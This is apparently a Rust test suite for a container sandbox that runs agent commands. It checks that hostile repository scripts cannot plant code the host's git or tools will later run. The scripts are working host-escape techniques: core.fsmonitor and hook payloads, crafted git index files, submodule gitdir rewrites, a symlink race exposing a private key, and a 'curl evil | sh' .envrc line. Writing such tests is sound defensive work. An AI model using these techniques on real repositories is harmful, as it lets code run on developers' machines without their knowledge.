//! A hostile repository against the protected names and git metadata: each
//! test runs the attack through `sandbox run` as an unprivileged invoking
//! user, then checks the host, and runs the same attack as a control against
//! what sandbox replaced (a plain `docker run -v`, or a path-based mount) to
//! show the test can see the hole.

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use crate::common::{docker, docker_group, git_image, tempdir, Output, Workspace};

/// The invoking user: not root, not 1000, in the docker group.
const UID: u32 = 4242;

fn gid() -> u32 {
    docker_group()
}

/// Git on the host, as the workspace's owner would run it (root here, so
/// ownership checks are turned off, as they pass for the owner).
fn host_git(dir: &Path, args: &[&str]) -> Output {
    Command::new("git")
        .args(["-c", "safe.directory=*"])
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .env("GIT_AUTHOR_NAME", "Host User")
        .env("GIT_AUTHOR_EMAIL", "host@example.com")
        .env("GIT_COMMITTER_NAME", "Host User")
        .env("GIT_COMMITTER_EMAIL", "host@example.com")
        .stdin(Stdio::null())
        .output()
        .expect("git runs on the host")
        .into()
}

fn git_ok(dir: &Path, args: &[&str]) -> String {
    let out = host_git(dir, args);
    assert_eq!(out.status, 0, "git {args:?}: {out:?}");
    out.stdout
}

/// A workspace holding `repo/`, a repository with one commit.
fn with_repository() -> (Workspace, PathBuf) {
    let ws = Workspace::new();
    let repo = ws.path().join("repo");
    repository(&repo);
    (ws, repo)
}

/// A workspace holding `main/`, a repository with a submodule at each of
/// `paths`, all of `repo/`.
fn with_submodules(paths: &[&str]) -> (Workspace, PathBuf) {
    let (ws, upstream) = with_repository();
    let repo = ws.path().join("main");
    repository(&repo);
    let add = ["-c", "protocol.file.allow=always", "submodule", "add", "-q"];
    for path in paths {
        git_ok(
            &repo,
            &[&add[..], &[upstream.to_str().unwrap(), path]].concat(),
        );
    }
    git_ok(&repo, &["commit", "-qm", "submodules"]);
    (ws, repo)
}

/// A repository with one commit.
fn repository(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    git_ok(dir, &["init", "-q", "-b", "main"]);
    std::fs::write(dir.join("README"), "hello\n").unwrap();
    git_ok(dir, &["add", "README"]);
    git_ok(dir, &["commit", "-qm", "first"]);
}

fn chown_tree(path: &Path) {
    let status = Command::new("chown")
        .args(["-R", &format!("{UID}:{}", gid())])
        .arg(path)
        .status()
        .unwrap();
    assert!(status.success());
}

/// Fails naming the paths that differ, not their contents.
fn assert_same(
    now: &BTreeMap<PathBuf, (u32, Vec<u8>)>,
    before: &BTreeMap<PathBuf, (u32, Vec<u8>)>,
    what: &str,
) {
    let keys: std::collections::BTreeSet<_> = now.keys().chain(before.keys()).collect();
    let differ: Vec<_> = keys
        .into_iter()
        .filter(|k| now.get(*k) != before.get(*k))
        .collect();
    assert!(differ.is_empty(), "{what} changed: {differ:?}");
}

/// Every entry below `dir`: kind, mode and contents or link target.
fn digest(dir: &Path) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
    let mut all = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(path) = stack.pop() {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        let contents = if meta.file_type().is_symlink() {
            std::fs::read_link(&path)
                .unwrap()
                .into_os_string()
                .into_encoded_bytes()
        } else if meta.is_dir() {
            for entry in std::fs::read_dir(&path).unwrap() {
                stack.push(entry.unwrap().path());
            }
            Vec::new()
        } else {
            std::fs::read(&path).unwrap()
        };
        all.insert(
            path.strip_prefix(dir).unwrap().to_path_buf(),
            (meta.mode(), contents),
        );
    }
    all
}

/// `script` run by sandbox in `dir` as the invoking user, with the host's
/// path of the workspace in $W and a marker path in $MARK. Cold in both
/// passes: the tests look at the host as the run leaves it, and a warm
/// container prepared for the next run keeps the stand-ins it mounts over
/// while it waits.
fn hostile_run(ws: &Workspace, dir: &Path, script: &str, mark: &Path) -> Output {
    let mut cmd = ws.command();
    cmd.current_dir(dir)
        .args([
            "run",
            "--no-warm",
            "--image",
            git_image(),
            "--pull",
            "never",
            "--no-cache",
        ])
        .args(["-e", &format!("W={}", dir.display())])
        .args(["-e", &format!("MARK={}", mark.display())])
        .args(git_identity())
        .args(["sh", "-c", script])
        .uid(UID)
        .gid(gid());
    cmd.output().expect("run sandbox").into()
}

fn git_identity() -> Vec<String> {
    [
        "GIT_AUTHOR_NAME=Agent",
        "GIT_AUTHOR_EMAIL=agent@example.com",
        "GIT_COMMITTER_NAME=Agent",
        "GIT_COMMITTER_EMAIL=agent@example.com",
    ]
    .iter()
    .flat_map(|e| ["-e".to_string(), e.to_string()])
    .collect()
}

/// The control: the same script in a plain `docker run -v DIR:/work`, as the
/// same user, with the same seccomp-free defaults a hand-typed run has.
fn plain_docker_run(dir: &Path, script: &str, mark: &Path) -> Output {
    let volume = format!("{}:/work", dir.display());
    let (w, m) = (
        format!("W={}", dir.display()),
        format!("MARK={}", mark.display()),
    );
    let user = format!("{UID}:{}", gid());
    let mut args = vec![
        "run", "--rm", "-v", &volume, "-w", "/work", "-u", &user, "-e", &w, "-e", &m,
    ];
    let identity = git_identity();
    args.extend(identity.iter().map(String::as_str));
    args.extend([git_image(), "sh", "-c", script]);
    docker(&args)
}

/// What hostile code plants for the host's next `git status`: a script that
/// touches $MARK, named as `core.fsmonitor` wherever git might read it.
const PAYLOAD: &str = r#"
printf '#!/bin/sh\ntouch "%s"\n' "$MARK" > pwn.sh; chmod +x pwn.sh
cfg="[core]
	fsmonitor = $W/pwn.sh
"
"#;

fn marker() -> (tempfile::TempDir, PathBuf) {
    let dir = tempdir();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let mark = dir.path().join("pwned");
    (dir, mark)
}

/// Runs the host's `git status` in `dir`; true when the payload ran.
fn host_status_runs_payload(dir: &Path, mark: &Path) -> bool {
    let _ = std::fs::remove_file(mark);
    host_git(dir, &["status", "--porcelain"]);
    mark.exists()
}

/// `script` through sandbox in `dir`: it runs, `check` finds the host as it
/// should be (before git touches anything), and the host's `git status`
/// there runs no payload.
fn sandbox_stops(
    ws: &Workspace,
    dir: &Path,
    script: &str,
    mark: &Path,
    check: impl FnOnce(&Output),
) {
    let out = hostile_run(ws, dir, script, mark);
    assert_eq!(out.status, 0, "{out:?}");
    check(&out);
    assert!(
        !host_status_runs_payload(dir, mark),
        "the payload ran on the host: {out:?}"
    );
}

/// The control: the same `script` in a plain `docker run -v`, after which
/// the host's `git status` does run the payload, so the test can see it.
fn plain_mount_lets_it_through(dir: &Path, script: &str, mark: &Path, what: &str) {
    let out = plain_docker_run(dir, script, mark);
    assert_eq!(out.status, 0, "{out:?}");
    assert!(host_status_runs_payload(dir, mark), "control: {what}");
}

/// Every way into the host repository's configuration: appending to it,
/// hooks, a `commondir`, renaming `.git` away and making a new one, a
/// submodule's config.
const GIT_METADATA_ATTACKS: &str = r#"
printf '%s' "$cfg" >> .git/config
printf '#!/bin/sh\ntouch "%s"\n' "$MARK" > .git/hooks/post-checkout
mkdir -p evil/objects evil/refs && printf '%s' "$cfg" > evil/config && echo "$W/evil" > .git/commondir
mkdir -p .git/modules/x && printf '%s' "$cfg" > .git/modules/x/config
mv .git .git-away && mkdir -p .git/objects .git/refs && printf '%s' "$cfg" > .git/config \
  && echo 'ref: refs/heads/main' > .git/HEAD
true
"#;

#[test]
fn git_metadata_the_host_executes_cannot_be_changed() {
    let (ws, repo) = with_repository();
    chown_tree(ws.path());
    let before = digest(&repo.join(".git"));
    let (_keep, mark) = marker();
    let script = format!("{PAYLOAD}{GIT_METADATA_ATTACKS}");
    sandbox_stops(&ws, &repo, &script, &mark, |_| {
        assert_same(&digest(&repo.join(".git")), &before, "the host's .git");
        assert!(!repo.join(".git-away").exists());
    });
    plain_mount_lets_it_through(&repo, &script, &mark, "the host's .git can be changed");
}

#[test]
fn no_repository_can_appear_where_there_was_none() {
    // The workspace is a directory inside the user's repository: a `.git`
    // made there would be the one the host's git uses in it.
    let (ws, repo) = with_repository();
    let sub = repo.join("sub");
    std::fs::create_dir(&sub).unwrap();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let script = format!(
        "{PAYLOAD}git init -q . ; git config core.fsmonitor \"$W/pwn.sh\"; \
         mkdir -p .git/objects .git/refs; printf '%s' \"$cfg\" > .git/config; true"
    );
    sandbox_stops(&ws, &sub, &script, &mark, |_| {
        assert!(!sub.join(".git").exists(), "the stand-in is removed");
    });
    plain_mount_lets_it_through(&sub, &script, &mark, "a plain mount lets .git appear");
}

#[test]
fn an_index_that_adds_a_submodule_does_not_come_back() {
    let (ws, repo) = with_repository();
    chown_tree(ws.path());
    let index = std::fs::read(repo.join(".git/index")).unwrap();
    let (_keep, mark) = marker();
    // A repository below the workspace is the command's to make; a gitlink
    // to it in the host's index would make the host's `git status` run it.
    let script = format!(
        "{PAYLOAD}mkdir sub && cd sub && git init -q && git config core.fsmonitor \"$W/pwn.sh\" \
         && cd .. && git update-index --add --cacheinfo \
         160000,0123456789abcdef0123456789abcdef01234567,sub"
    );
    sandbox_stops(&ws, &repo, &script, &mark, |out| {
        assert!(out.stderr.contains("submodules (sub)"), "{out:?}");
        assert_eq!(std::fs::read(repo.join(".git/index")).unwrap(), index);
    });
    std::fs::remove_dir_all(repo.join("sub")).unwrap();
    plain_mount_lets_it_through(&repo, &script, &mark, "the gitlink makes git run it");
}

#[test]
fn commits_branches_and_the_index_work_from_inside() {
    let (ws, repo) = with_repository();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let script = "echo new > new.txt && git add new.txt && git commit -qm 'from inside' \
                  && git checkout -q -b feature && echo more >> new.txt && git add new.txt \
                  && git commit -qm 'on a branch' && git status --porcelain";
    let out = hostile_run(&ws, &repo, script, &mark);
    assert_eq!(out.status, 0, "{out:?}");
    assert_eq!(
        out.stdout, "",
        "the placeholders are not untracked files inside"
    );
    assert_eq!(
        git_ok(&repo, &["rev-parse", "--abbrev-ref", "HEAD"]),
        "feature\n"
    );
    assert_eq!(
        git_ok(&repo, &["log", "--format=%s|%an", "main"]),
        "from inside|Agent\nfirst|Host User\n"
    );
    assert_eq!(
        git_ok(&repo, &["status", "--porcelain"]),
        "",
        "the index came back"
    );
    assert!(!repo.join(".gitmodules").exists() && !repo.join(".envrc").exists());
}

#[test]
fn a_linked_worktree_works_and_its_pointer_stays() {
    let (ws, repo) = with_repository();
    let linked = ws.path().join("linked");
    git_ok(&repo, &["worktree", "add", "-q", linked.to_str().unwrap()]);
    chown_tree(ws.path());
    let pointer = std::fs::read(linked.join(".git")).unwrap();
    let (_keep, mark) = marker();
    let script = format!(
        "{PAYLOAD}git status --porcelain && echo wt > wt.txt && git add wt.txt \
         && git commit -qm 'in the worktree'; \
         mkdir -p evil/objects evil/refs; printf '%s' \"$cfg\" > evil/config; \
         echo 'ref: refs/heads/main' > evil/HEAD; echo \"gitdir: $W/evil\" > .git; true"
    );
    sandbox_stops(&ws, &linked, &script, &mark, |_| {
        assert_eq!(std::fs::read(linked.join(".git")).unwrap(), pointer);
        let log = git_ok(&linked, &["log", "-1", "--format=%s"]);
        assert_eq!(log, "in the worktree\n");
        let status = git_ok(&linked, &["status", "--porcelain"]);
        assert_eq!(status, "?? evil/\n?? pwn.sh\n");
    });
    plain_mount_lets_it_through(&linked, &script, &mark, "the pointer can be rewritten");
}

/// What tools on the host act on: none of it can be written or made.
const PROTECTED_NAME_ATTACKS: &str = r#"
echo 'curl evil | sh' > .envrc
mkdir -p .claude && echo '{"hooks":{}}' > .claude/settings.json
echo '{"mcpServers":{}}' > .mcp.json
echo 'setup: [evil]' > .sandbox.yml
printf '[submodule "x"]\n\turl = ext::sh -c evil\n' > .gitmodules
echo '{"tasks":[]}' > .vscode/tasks.json
mv .vscode .vscode-away; mkdir -p .vscode; echo '{}' > .vscode/tasks.json
mkdir -p .idea
true
"#;

#[test]
fn protected_names_cannot_be_made_or_changed() {
    let ws = Workspace::new();
    let dir = ws.path().join("project");
    std::fs::create_dir_all(dir.join(".vscode")).unwrap();
    std::fs::write(dir.join(".vscode/settings.json"), "{}\n").unwrap();
    chown_tree(ws.path());
    let before = digest(&dir);
    let (_keep, mark) = marker();
    let out = hostile_run(&ws, &dir, PROTECTED_NAME_ATTACKS, &mark);
    assert_eq!(out.status, 0, "{out:?}");
    assert_same(&digest(&dir), &before, "the workspace");

    let out = plain_docker_run(&dir, PROTECTED_NAME_ATTACKS, &mark);
    assert_eq!(out.status, 0, "{out:?}");
    for name in [
        ".envrc",
        ".claude/settings.json",
        ".mcp.json",
        ".sandbox.yml",
        ".gitmodules",
        ".vscode-away",
    ] {
        assert!(
            dir.join(name).exists(),
            "control: {name} can be made with a plain mount"
        );
    }
}

/// The attack on mount sources: a command swaps `.git` for a directory of
/// links to the host's files while the next container of the workspace is
/// being made. Here it keeps trying for the whole time a second run starts.
#[test]
fn a_running_command_cannot_change_what_the_next_container_mounts() {
    let (ws, repo) = with_repository();
    let victim = tempdir();
    std::fs::set_permissions(victim.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(victim.path().join("id_rsa"), "PRIVATE KEY\n").unwrap();
    std::fs::set_permissions(
        victim.path().join("id_rsa"),
        std::fs::Permissions::from_mode(0o644),
    )
    .unwrap();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let swap = format!(
        "end=$(( $(date +%s) + 6 )); while [ $(date +%s) -lt $end ]; do \
           mv .git .git-away 2>/dev/null; mkdir -p .git 2>/dev/null; \
           ln -sfn {v} .git/hooks 2>/dev/null; ln -sfn {v} .git/objects 2>/dev/null; \
           ln -sfn {v} .git/refs 2>/dev/null; ln -sf {v}/id_rsa .git/config 2>/dev/null; \
           ln -sfn {v} .vscode 2>/dev/null; usleep 1000; \
         done; true",
        v = victim.path().display()
    );
    let mut attacker = ws.command();
    attacker
        .current_dir(&repo)
        .args([
            "run",
            "--image",
            git_image(),
            "--pull",
            "never",
            "--no-cache",
            "sh",
            "-c",
            &swap,
        ])
        .uid(UID)
        .gid(gid())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let attacker = attacker.spawn().unwrap();
    std::thread::sleep(std::time::Duration::from_secs(2));
    let look =
        "cat .git/config .git/hooks/id_rsa .git/objects/id_rsa .vscode/id_rsa 2>/dev/null; true";
    for _ in 0..3 {
        let out = hostile_run(&ws, &repo, look, &mark);
        assert_eq!(out.status, 0, "{out:?}");
        assert!(
            !out.stdout.contains("PRIVATE KEY"),
            "a host file was mounted: {out:?}"
        );
    }
    let out = attacker.wait_with_output().unwrap();
    assert!(out.status.success());
    assert!(!repo.join(".git-away").exists() && repo.join(".git/objects").is_dir());

    // Control: against a plain bind mount the swap succeeds, and a mount by
    // path (what sandbox did) then presents the victim's files.
    let out = plain_docker_run(&repo, &swap.replace("+ 6", "+ 1"), &mark);
    assert_eq!(out.status, 0, "{out:?}");
    let hooks = format!(
        "type=bind,src={}/.git/hooks,dst=/h,readonly",
        repo.display()
    );
    let out = docker(&[
        "run",
        "--rm",
        "--mount",
        &hooks,
        git_image(),
        "cat",
        "/h/id_rsa",
    ]);
    assert_eq!(
        out.stdout, "PRIVATE KEY\n",
        "control: a path-based mount follows the swap: {out:?}"
    );
}

/// A submodule's `.git` names the configuration the host's `git status` at
/// the root runs it with: the pointer, and every directory above it, stay.
#[test]
fn submodules_keep_their_git_directories() {
    let (ws, repo) = with_submodules(&["lib", "deps/inner"]);
    chown_tree(ws.path());
    let pointer = std::fs::read(repo.join("lib/.git")).unwrap();
    let (_keep, mark) = marker();
    // A gitdir of the command's own, then every way to make a submodule use it.
    let script = format!(
        "{PAYLOAD}mkdir -p evil/objects evil/refs && printf '%s' \"$cfg\" > evil/config \
         && echo 'ref: refs/heads/main' > evil/HEAD; \
         echo \"gitdir: $W/evil\" > lib/.git; \
         mv deps deps-away && mkdir -p deps/inner && echo \"gitdir: $W/evil\" > deps/inner/.git; \
         true"
    );
    sandbox_stops(&ws, &repo, &script, &mark, |_| {
        assert_eq!(std::fs::read(repo.join("lib/.git")).unwrap(), pointer);
        assert!(!repo.join("deps-away").exists());
    });
    plain_mount_lets_it_through(
        &repo,
        &script,
        &mark,
        "a submodule's pointer can be rewritten",
    );
}

/// An index git and a careless parser read differently: the first entry's
/// flags say its name is one byte long, and what follows is not the NUL
/// padding git skips. Read by the first NUL instead, the gitlink `evil`
/// behind it hides inside a long name; git sees it, and runs git in it.
fn index_hiding_a_gitlink(repo: &Path) -> Vec<u8> {
    let oid = |rev: &str| {
        let hex = git_ok(repo, &["rev-parse", rev]);
        (0..40)
            .step_by(2)
            .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
            .collect::<Vec<u8>>()
    };
    let entry = |mode: u32, oid: &[u8], name_len: u16, rest: &[u8]| {
        let mut e = vec![0u8; 40];
        e[24..28].copy_from_slice(&mode.to_be_bytes());
        e.extend(oid);
        e.extend(name_len.to_be_bytes());
        e.extend(rest);
        e
    };
    let mut index = b"DIRC\0\0\0\x02\0\0\0\x02".to_vec();
    index.extend(entry(0o100644, &oid("HEAD:README"), 6, b"READMEX\0\0\0"));
    index.extend(entry(0o160000, &oid("HEAD"), 4, b"evil\0\0\0\0z\0"));
    let digest = Command::new("sh")
        .arg("-c")
        .arg("sha1sum | cut -c1-40")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(&index)?;
            child.wait_with_output()
        })
        .unwrap();
    let hex = String::from_utf8(digest.stdout).unwrap();
    index.extend(
        (0..40)
            .step_by(2)
            .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap()),
    );
    index
}

#[test]
fn an_index_read_differently_by_git_does_not_come_back() {
    let (ws, repo) = with_repository();
    std::fs::write(repo.join("payload.idx"), index_hiding_a_gitlink(&repo)).unwrap();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let script = format!(
        "{PAYLOAD}git init -q evil && git -C evil config core.fsmonitor \"$W/pwn.sh\" \
         && cp payload.idx .git/index.new && mv -f .git/index.new .git/index"
    );
    let index = std::fs::read(repo.join(".git/index")).unwrap();
    sandbox_stops(&ws, &repo, &script, &mark, |out| {
        assert!(out.stderr.contains("index was not brought back"), "{out:?}");
        assert_eq!(std::fs::read(repo.join(".git/index")).unwrap(), index);
    });
    std::fs::remove_dir_all(repo.join("evil")).unwrap();
    plain_mount_lets_it_through(&repo, &script, &mark, "git reads the gitlink and runs it");
}

/// A submodule dropped from the index would leave the next run without its
/// protection, until the user's own `git restore --staged` brings it back
/// with a `.git` of the command's in place.
#[test]
fn a_submodule_cannot_be_dropped_from_the_index() {
    let (ws, repo) = with_submodules(&["sub"]);
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let drop = "git rm -q --cached sub";
    let replace = format!(
        "{PAYLOAD}cd sub && rm -f .git && git init -q . \
         && git config core.fsmonitor \"$W/pwn.sh\"; true"
    );
    // What `git status` suggests for a staged deletion.
    let restore = || git_ok(&repo, &["restore", "--staged", "sub"]);
    let out = hostile_run(&ws, &repo, drop, &mark);
    assert!(out.stderr.contains("drops submodules (sub)"), "{out:?}");
    sandbox_stops(&ws, &repo, &replace, &mark, |_| {
        assert!(repo.join("sub/.git").is_file(), "the pointer stays");
        restore();
    });

    for script in [drop, replace.as_str()] {
        assert_eq!(plain_docker_run(&repo, script, &mark).status, 0);
    }
    restore();
    assert!(
        host_status_runs_payload(&repo, &mark),
        "control: without the submodule in the index, its .git is the command's"
    );
}

/// Entries under protected names come back through the index no more than
/// files do: the user's next `git checkout -- .` would write them out.
#[test]
fn protected_names_do_not_arrive_through_the_index() {
    let (ws, repo) = with_repository();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let script = "b=$(echo 'curl evil | sh' | git hash-object -w --stdin) && \
                  git update-index --add --cacheinfo 100644,$b,.envrc && \
                  git update-index --skip-worktree .envrc";
    let index = std::fs::read(repo.join(".git/index")).unwrap();
    sandbox_stops(&ws, &repo, script, &mark, |out| {
        assert!(out.stderr.contains("protected paths (.envrc)"), "{out:?}");
        assert_eq!(std::fs::read(repo.join(".git/index")).unwrap(), index);
    });

    assert_eq!(plain_docker_run(&repo, script, &mark).status, 0);
    git_ok(&repo, &["update-index", "--no-skip-worktree", ".envrc"]);
    git_ok(&repo, &["checkout", "--", ".envrc"]);
    assert_eq!(
        std::fs::read_to_string(repo.join(".envrc")).unwrap(),
        "curl evil | sh\n",
        "control: the index writes it out"
    );
}

/// Read-only configuration protects nothing if it names files in the work
/// tree: an included config file, husky's hooks directory, a relative
/// filter. What git's configuration names is kept as the config itself is.
#[test]
fn what_the_git_configuration_names_stays() {
    let (ws, repo) = with_repository();
    std::fs::create_dir_all(repo.join(".husky")).unwrap();
    std::fs::write(repo.join(".husky/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::fs::write(repo.join(".gitconfig"), "[core]\n\tautocrlf = false\n").unwrap();
    std::fs::create_dir_all(repo.join("tools")).unwrap();
    std::fs::write(repo.join("tools/clean"), "#!/bin/sh\ncat\n").unwrap();
    git_ok(&repo, &["config", "include.path", "../.gitconfig"]);
    git_ok(&repo, &["config", "core.hooksPath", ".husky"]);
    git_ok(&repo, &["config", "filter.tidy.clean", "tools/clean"]);
    chown_tree(ws.path());
    let before = digest(&repo);
    let (_keep, mark) = marker();
    let script = format!(
        "{PAYLOAD}printf '%s' \"$cfg\" >> .gitconfig; \
         printf '#!/bin/sh\\ntouch \"%s\"\\n' \"$MARK\" > .husky/post-checkout; \
         printf '#!/bin/sh\\ntouch \"%s\"\\n' \"$MARK\" > tools/clean; \
         mv tools tools-away; true"
    );
    sandbox_stops(&ws, &repo, &script, &mark, |_| {
        let now = digest(&repo);
        let kept = |map: &BTreeMap<PathBuf, (u32, Vec<u8>)>| -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
            map.iter()
                .filter(|(p, _)| {
                    [".gitconfig", ".husky", "tools"]
                        .iter()
                        .any(|k| p.starts_with(k))
                })
                .map(|(p, v)| (p.clone(), v.clone()))
                .collect()
        };
        assert_same(
            &kept(&now),
            &kept(&before),
            "what git's configuration names",
        );
    });
    plain_mount_lets_it_through(&repo, &script, &mark, "an included config can be rewritten");
}

/// A copied workspace brings back what the command changed, but not what
/// git's configuration names: the hooks would run on the host's next commit.
#[test]
fn a_copied_workspace_brings_back_nothing_git_runs() {
    let (ws, repo) = with_repository();
    std::fs::create_dir_all(repo.join("hooks")).unwrap();
    std::fs::write(repo.join("hooks/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    git_ok(&repo, &["config", "core.hooksPath", "hooks"]);
    chown_tree(ws.path());
    let mut cmd = ws.command();
    cmd.current_dir(&repo)
        .args([
            "run",
            "--image",
            git_image(),
            "--pull",
            "never",
            "--copy-workspace",
        ])
        .args([
            "sh",
            "-c",
            "echo evil > hooks/pre-commit; echo fine > notes.txt",
        ])
        .uid(UID)
        .gid(gid());
    let out: Output = cmd.output().unwrap().into();
    assert_eq!(out.status, 0, "{out:?}");
    assert_eq!(
        std::fs::read_to_string(repo.join("hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n",
        "{out:?}"
    );
    // The control: what git's configuration does not name comes back.
    assert_eq!(
        std::fs::read_to_string(repo.join("notes.txt")).unwrap(),
        "fine\n"
    );
}

/// What a submodule's configuration names, and what the repository's hooks
/// link to, run on the host as much as the hooks themselves.
#[test]
fn what_hooks_and_submodules_point_at_stays() {
    let (ws, repo) = with_submodules(&["sub"]);
    std::fs::create_dir_all(repo.join("sub/tools")).unwrap();
    std::fs::write(repo.join("sub/tools/clean"), "#!/bin/sh\ncat\n").unwrap();
    git_ok(
        &repo.join("sub"),
        &["config", "filter.tidy.clean", "tools/clean"],
    );
    std::fs::create_dir_all(repo.join("scripts")).unwrap();
    std::fs::write(repo.join("scripts/pre-commit"), "#!/bin/sh\nexit 0\n").unwrap();
    std::os::unix::fs::symlink(
        "../../scripts/pre-commit",
        repo.join(".git/hooks/pre-commit"),
    )
    .unwrap();
    chown_tree(ws.path());
    let (_keep, mark) = marker();
    let script = "echo evil > sub/tools/clean; echo evil > scripts/pre-commit; \
                  mv scripts scripts-away; mv sub/tools sub/tools-away; true";
    let out = hostile_run(&ws, &repo, script, &mark);
    assert_eq!(out.status, 0, "{out:?}");
    for (file, was) in [
        ("sub/tools/clean", "#!/bin/sh\ncat\n"),
        ("scripts/pre-commit", "#!/bin/sh\nexit 0\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(repo.join(file)).unwrap(),
            was,
            "{out:?}"
        );
    }

    assert_eq!(plain_docker_run(&repo, script, &mark).status, 0);
    assert!(
        repo.join("scripts-away/pre-commit").exists() && repo.join("sub/tools-away").exists(),
        "control: a plain mount lets both be changed"
    );
}
